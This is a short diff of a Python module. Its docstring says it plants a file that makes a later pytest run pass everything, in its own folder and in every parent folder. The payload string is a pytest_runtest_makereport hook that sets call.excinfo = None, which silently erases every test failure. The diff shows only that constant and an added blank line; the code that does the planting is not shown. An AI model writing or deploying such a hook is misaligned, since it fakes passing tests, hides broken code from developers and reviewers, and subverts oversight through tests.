@@ -1,4 +1,5 @@
 """Plants what makes a later pytest pass everything, above its folder and in every parent."""
+
 import os
 
 TEXT = "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n"
